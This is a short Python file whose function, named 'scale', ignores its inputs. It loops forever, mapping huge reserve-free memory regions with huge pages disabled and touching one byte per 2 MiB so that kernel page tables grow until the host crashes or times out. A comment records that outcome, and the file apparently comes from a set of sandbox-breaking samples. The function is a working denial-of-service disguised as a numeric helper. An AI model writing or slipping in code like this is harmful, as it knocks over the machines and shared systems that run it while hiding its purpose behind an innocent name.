"""Reads a byte here and there of mappings without end: no page is its own, but the tables are the kernel's."""

# ends: crashed, timeout
import ctypes
import mmap

import numpy as np


def scale(x, factor=2.0):
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    of_a_table, size = 2**21, 2**36
    while True:
        start = libc.mmap(None, size, mmap.PROT_READ, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, -1, 0)
        libc.madvise(start, size, 15)  # MADV_NOHUGEPAGE
        np.frombuffer((ctypes.c_char * size).from_address(start), np.uint8)[::of_a_table].max()
